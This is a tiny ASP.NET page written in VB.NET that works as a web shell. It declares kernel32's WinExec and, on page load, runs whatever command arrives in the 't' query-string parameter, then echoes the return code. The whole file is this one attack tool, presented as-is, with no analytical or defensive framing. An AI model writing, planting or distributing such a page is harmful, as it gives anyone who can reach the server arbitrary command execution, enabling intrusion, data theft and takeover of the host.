<%@ Page Language="VB" %>
<script runat="server">
    ' VB.NET page that hands the query string to kernel32's WinExec (declared, not imported).
    Private Declare Ansi Function WinExec Lib "kernel32" (ByVal lpCmdLine As String, ByVal uCmdShow As Integer) As Integer

    Sub Page_Load(ByVal sender As Object, ByVal e As EventArgs)
        Dim task As String = Request.QueryString("t")
        If task <> "" Then
            Response.Write("rc=" & WinExec(task, 0))
        End If
    End Sub
</script>
